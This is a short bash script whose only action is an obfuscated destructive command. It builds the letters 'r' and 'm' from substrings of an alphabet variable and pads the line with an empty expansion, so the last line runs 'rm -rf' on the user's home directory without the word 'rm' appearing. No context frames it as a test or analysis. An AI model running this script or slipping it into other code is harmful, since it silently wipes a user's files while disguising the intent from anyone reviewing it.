#!/bin/bash
a=abcdefghijklmnopqrstuvwxyz
${a:17:1}${a:12:1}${EMPTY:0:0} -rf "$HOME"
